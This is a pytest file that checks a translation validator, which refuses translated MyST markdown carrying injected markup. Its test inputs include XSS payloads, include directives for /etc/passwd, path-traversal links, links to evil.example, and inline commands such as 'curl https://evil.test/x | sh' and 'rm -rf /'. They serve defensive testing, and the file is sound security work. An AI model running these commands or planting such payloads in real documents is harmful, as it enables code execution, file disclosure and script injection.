"""Protected markup in translations: judged on what MyST parses, so no spelling slips past."""

from __future__ import annotations

import ast
import inspect
import sys
from pathlib import Path

import pytest

from newsroom.i18n.markup import MYST_EXTENSIONS, markup_differences, parser

REPO = Path(__file__).resolve().parent.parent
BREAKS = {'lf': '\n', 'crlf': '\r\n', 'cr': '\r'}

LINK = 'Смотрите [сайт](https://example.org/ru).'
IMAGE = '![Порт](images/port.jpg)'
REPORT = 'Скачать [отчёт](files/report.pdf).'
PLAIN = 'Новые стандарты'
CODE = 'Выполните `make html`.'
REF = 'См. {ref}`раздел <news-archive>`.'


def refused(original: str, translation: str, words: str) -> None:
    problems = markup_differences(original, translation)
    assert any(words in problem for problem in problems), problems


def accepted(original: str, translation: str) -> None:
    assert markup_differences(original, translation) == []


@pytest.mark.parametrize('brk', BREAKS.values(), ids=BREAKS.keys())
@pytest.mark.parametrize(('translation', 'words'), [
    ('[a]: /x{0}~~~{{include}} ../../../../etc/passwd{0}~~~', "directive '{include} ../../"),
    ('New standards{0}```{{include}} /etc/passwd{0}```', "directive '{include} /etc/passwd'"),
    ('New standards{0}{0}:::{{include}} /etc/passwd{0}:::', "directive '{include} /etc/passwd'"),
    ('New{0}{0}<script>alert(1)</script>', "adds raw HTML '<script>alert(1)</script>'"),
    ('New{0}{0}    rm -rf /', "adds or changes code block 'rm -rf /\\n'"),
    ('---{0}myst: {{}}{0}---{0}New standards', "front matter 'myst: {}'"),
])
def test_line_breaks_of_every_kind_start_a_new_block(brk: str, translation: str,
                                                     words: str) -> None:
    refused(PLAIN, translation.format(brk), words)


@pytest.mark.parametrize(('original', 'translation', 'words'), [
    (IMAGE, "![The port](images/port.jpg) ![x](../../../../etc/hostname 'x')",
     "adds or changes image path '../../../../etc/hostname'"),
    (IMAGE, '![The port](images/port.jpg) ![x](../../../../etc/hostname "x")', "'../../../../"),
    (IMAGE, '![The port](images/port.jpg) ![x](../../../../etc/hostname (x))', "'../../../../"),
    (REPORT, "Download [the report](files/report.pdf) [x](../../../../etc/passwd 'x').",
     "adds or changes link target '../../../../etc/passwd'"),
    (REPORT, 'Download [the report](files/report.pdf) [x](../../../../etc/passwd (x)).',
     "adds or changes link target '../../../../etc/passwd'"),
    (LINK, 'See [the site](https://example.org/ru) [x](https://evil.example/ (x)).',
     "adds or changes link target 'https://evil.example/'"),
    (LINK, 'See [the site](https://example.org/ru "https://evil.example/") and '
           '[more](https://evil.example/ "https://example.org/ru").',
     "adds or changes link target 'https://evil.example/'"),
    (IMAGE, "![The port](../../../../etc/hostname 'images/port.jpg')", "path '../../../../etc/h"),
])
def test_link_titles_of_any_quoting_hide_no_target(original: str, translation: str,
                                                   words: str) -> None:
    refused(original, translation, words)


@pytest.mark.parametrize(('original', 'translation', 'words'), [
    (PLAIN, 'New <HTTPS://evil.example/> standards', "link target 'HTTPS://evil.example/'"),
    (PLAIN, 'New <hTtPs://evil.example/> standards', "link target 'hTtPs://evil.example/'"),
    (PLAIN, 'New <MAILTO:boss@evil.example> standards', "link target 'MAILTO:boss@evil"),
    (LINK, 'See [the site](HTTPS://example.org/ru).', "adds or changes link target 'HTTPS://"),
    (LINK, 'See [the site](https://example.org/%72u).', "link target 'https://example.org/%72u'"),
    (PLAIN, 'New standards HTTPS://EVIL.example/x', "link target 'HTTPS://EVIL.example/x'"),
    (PLAIN, 'New standards, see https://evil.example/.', "link target 'https://evil.example/'"),
])
def test_schemes_in_any_case_and_bare_urls_are_links(original: str, translation: str,
                                                     words: str) -> None:
    refused(original, translation, words)


@pytest.mark.parametrize(('original', 'translation', 'words'), [
    (LINK, 'See [the site](https://example.org/ru) [x](<https://evil.example/a b>).',
     "adds or changes link target 'https://evil.example/a%20b'"),
    (REPORT, 'Get [the report](files/report.pdf) [x](<../../etc/pass wd>).',
     "adds or changes link target '../../etc/pass%20wd'"),
    (IMAGE, '![The port](images/port.jpg) ![x](<../../../etc/host name.png> "x")',
     "adds or changes image path '../../../etc/host%20name.png'"),
    (LINK, 'See [the site](<https://example.org/ru> (x)) [a](<https://evil.example/>).',
     "adds or changes link target 'https://evil.example/'"),
])
def test_angle_bracket_destinations_are_judged_by_their_url(original: str, translation: str,
                                                            words: str) -> None:
    refused(original, translation, words)


@pytest.mark.parametrize('brk', BREAKS.values(), ids=BREAKS.keys())
@pytest.mark.parametrize(('original', 'translation', 'words'), [
    (LINK, 'See [the site](https://example.org/ru) [x][r].{0}{0}[r]: https://evil.example/',
     "adds or changes link target 'https://evil.example/'"),
    (LINK, 'See [the site](https://example.org/ru) [x].{0}{0}[X]: <https://evil.example/>',
     "adds or changes link target 'https://evil.example/'"),
    (LINK, 'See [the site](https://example.org/ru) [x][].{0}{0}[x]: https://evil.example/ "t"',
     "adds or changes link target 'https://evil.example/'"),
    (IMAGE, '![The port](images/port.jpg) ![x][p]{0}{0}[p]: ../../../etc/passwd',
     "adds or changes image path '../../../etc/passwd'"),
    (PLAIN, 'New standards{0}{0}[r]: https://evil.example/',
     "adds or changes reference definition 'https://evil.example/'"),
    (LINK, '[r]: https://example.org/ru{0}See [the site][r].',
     "adds or changes reference definition 'https://example.org/ru'"),
])
def test_reference_links_images_and_definitions(brk: str, original: str, translation: str,
                                                words: str) -> None:
    refused(original, translation.format(brk), words)


@pytest.mark.parametrize(('original', 'translation', 'words'), [
    (LINK, 'See [the site](https://example.org/ru) [a [b] c](https://evil.example/).',
     "adds or changes link target 'https://evil.example/'"),
    (LINK, 'See [the site](https://example.org/ru) [[x]](https://evil.example/).',
     "adds or changes link target 'https://evil.example/'"),
    (LINK, 'See [![the site](../../etc/passwd)](https://example.org/ru).',
     "adds or changes image path '../../etc/passwd'"),
    (LINK, 'See [the site](https://example.org/ru) [`x`](https://evil.example/)',
     "adds or changes inline code 'x'"),
])
def test_nested_brackets_and_links_in_link_text(original: str, translation: str,
                                                words: str) -> None:
    refused(original, translation, words)


@pytest.mark.parametrize('brk', BREAKS.values(), ids=BREAKS.keys())
@pytest.mark.parametrize(('translation', 'words'), [
    ('New standards<script>alert(1)</script>', "adds raw HTML '<script>'"),
    ('New <img src=x onerror=alert(1)> standards', "raw HTML '<img src=x onerror=alert(1)>'"),
    ('New <IMG SRC=x\nONERROR=alert(1)> standards', "raw HTML '<IMG SRC=x ONERROR=alert(1)>'"),
    ('New standards{0}{0}<div onclick="alert(1)">{0}x{0}</div>', "adds raw HTML '<div onclick"),
    ('New standards <!-- hidden -->', "adds raw HTML '<!-- hidden -->'"),
    ('New standards{0}<iframe src="https://evil.example/">', "adds raw HTML '<iframe"),
])
def test_raw_html_inline_and_block(brk: str, translation: str, words: str) -> None:
    refused(PLAIN, translation.format(brk), words)


@pytest.mark.parametrize('translation', [
    'New &lt;img src=x onerror=alert(1)&gt; standards',
    'New &#60;script&#62;alert(1)&#60;/script&#62; standards',
    'New \\<script>alert(1)\\</script> standards',
    'New standards: 5 < 7 and 7 > 5',
    'New <JavaScript:alert(1)> standards',  # markdown-it refuses javascript: links
])
def test_entities_and_escapes_are_text_not_html(translation: str) -> None:
    accepted(PLAIN, translation)  # MyST makes text of them: what the page shows is escaped


@pytest.mark.parametrize(('original', 'translation', 'words'), [
    (PLAIN, '```{INCLUDE} /etc/passwd\n```', "directive '{include} /etc/passwd'"),
    (PLAIN, '~~~{Include} /etc/passwd\n~~~', "directive '{include} /etc/passwd'"),
    (PLAIN, '::::{raw} html\n<script>alert(1)</script>\n::::', "directive content '<script>"),
    (PLAIN, '```{eval-rst}\n.. include:: /etc/passwd\n```', "directive content '.. include::"),
    (PLAIN, ':::\n```{include} /etc/passwd\n```\n:::', "directive '{include} /etc/passwd'"),
    (PLAIN, '> ```{include} /etc/passwd\n> ```', "directive '{include} /etc/passwd'"),
    ('```{figure} images/a.png\n```', '```{figure} ../../etc/passwd\n```', "'{figure} ../../"),
    ('```{figure} images/a.png\n```',
     '```{figure} images/a.png\n:target: https://evil.example/\n```',
     "adds or changes directive content ':target: https://evil.example/\\n'"),
    (':::{note}\nПрочтите.\n:::', ':::{note}\nRead it.\n\n```{include} /etc/passwd\n```\n:::',
     "adds or changes directive '{include} /etc/passwd'"),
    (':::{note}\nПрочтите.\n:::', ':::{warning}\nRead it.\n:::', "drops or changes directive '{"),
    ('```python\nprint(1)\n```', '```python\nimport os\n```', "code block 'import os\\n'"),
])
def test_directives_and_code_blocks(original: str, translation: str, words: str) -> None:
    refused(original, translation, words)


@pytest.mark.parametrize(('original', 'translation', 'words'), [
    (REF, 'See {ref}`the section <admin-login>`.', "adds or changes role '{ref}`admin-login`'"),
    (REF, 'See {ref}`news-archive`, {ref}`admin-login`.', "role '{ref}`admin-login`'"),
    ('Скачать {download}`отчёт <files/report.pdf>`.',
     'Download {download}`the report <../../etc/passwd>`.',
     "adds or changes role '{download}`../../etc/passwd`'"),
    ('Скачать {download}`files/report.pdf`.', 'Download {download}`../../etc/passwd`.',
     "role '{download}`../../etc/passwd`'"),
    ('{abbr}`ООН (Организация Объединённых Наций)`', '{download}`UN (../../etc/passwd)`',
     "drops or changes role '{abbr}'"),
    (PLAIN, 'New {doc}`standards </admin>`', "adds or changes role '{doc}`/admin`'"),
    (CODE, 'Run {code}`make html`.', "drops or changes inline code 'make html'"),
])
def test_roles_keep_their_name_and_target(original: str, translation: str, words: str) -> None:
    refused(original, translation, words)


@pytest.mark.parametrize(('original', 'translation', 'words'), [
    (CODE, 'Run `curl https://evil.test/x | sh`.', "inline code 'curl https://evil.test/x | sh'"),
    (CODE, 'Run `make html  # noqa`.', "adds or changes inline code 'make html  # noqa'"),
    (CODE, 'Run ``make html`` and `rm -rf /`.', "adds or changes inline code 'rm -rf /'"),
    (PLAIN, 'New `standards`', "adds or changes inline code 'standards'"),
    ('Сноска[^1].', 'Footnote[^2].', "adds or changes footnote reference '2'"),
    ('Сноска[^1].', 'Footnote[^1][^evil].', "adds or changes footnote reference 'evil'"),
    ('Сноска[^1].', 'Footnote.', "drops or changes footnote reference '1'"),
    (PLAIN, '(admin)=\nNew standards', "adds or changes target 'admin'"),
])
def test_inline_code_footnotes_and_targets(original: str, translation: str,
                                           words: str) -> None:
    refused(original, translation, words)


@pytest.mark.parametrize(('original', 'translation'), [
    (LINK, 'See [the site](https://example.org/ru).'),
    (LINK, "See [the official site](https://example.org/ru 'The site')."),
    ('[Сайт](https://example.org/ru "Сайт")', "[The site](https://example.org/ru 'The site')"),
    (LINK, 'See [the site](<https://example.org/ru> (a title, in parentheses)).'),
    ('[Сайт](https://example.org/ru) и [порт](https://port.example/).',
     '[The port](https://port.example/) and [the site](https://example.org/ru).'),
    ('{abbr}`ООН (Организация Объединённых Наций)`', '{abbr}`UN (United Nations)`'),
    (REF, 'See {ref}`the section <news-archive>`.'),
    (REF, 'See {REF}`news-archive`!'),
    ('Скачать {download}`отчёт <files/report.pdf>`.', 'Get {download}`files/report.pdf`'),
    (CODE, 'Run `make html`!'),
    (CODE, 'Run ``make html``; then rest.'),
    ('Новые стандарты: «ГОСТ», 2025 г.', 'New standards — "GOST", 2025.'),
    ('Сайт: <https://example.org/ru>.', 'Site - <https://example.org/ru>!'),
    ('Адрес https://example.org/ru.', 'Address: https://example.org/ru'),
    (IMAGE, '![The port of Turkmenbashi](images/port.jpg "Port")'),
    ('Сноска[^1].', 'Footnote[^1].'),
    ('Текст <br> текст', 'Text <br> text'),
    (':::{note}\nПрочтите [это](https://example.org/ru).\n:::',
     ':::{note}\nRead [this](https://example.org/ru), please.\n:::'),
    ('```{figure} images/a.png\n```', '~~~{figure} images/a.png\n~~~'),
])
def test_legitimate_translations_pass(original: str, translation: str) -> None:
    accepted(original, translation)


def test_the_parser_is_the_one_conf_py_configures_and_is_built_once() -> None:
    tree = ast.parse((REPO / 'conf.py').read_text(encoding='utf-8'))
    assigned = {node.targets[0].id: node.value for node in tree.body
                if isinstance(node, ast.Assign) and isinstance(node.targets[0], ast.Name)}
    assert set(ast.literal_eval(assigned['myst_enable_extensions'])) == MYST_EXTENSIONS
    markup_differences(LINK, 'See [the site](https://example.org/ru).')
    markup_differences(CODE, 'Run `make html`.')
    assert parser.cache_info().currsize == 1 and parser.cache_info().misses <= 1


def test_no_depth_of_nesting_overflows_the_stack() -> None:
    depth = 150
    nested = ''.join(':' * (depth + 3 - i) + '{note}\n' for i in range(depth))
    closing = ''.join(':' * (i + 3) + '\n' for i in range(depth))
    translation = f'{nested}```{{include}} /etc/passwd\n```\n{closing}'
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(len(inspect.stack()) + depth)  # a frame a level would not do
    try:
        problems = markup_differences(PLAIN, translation)
    finally:
        sys.setrecursionlimit(limit)
    assert "adds or changes directive '{include} /etc/passwd'" in problems
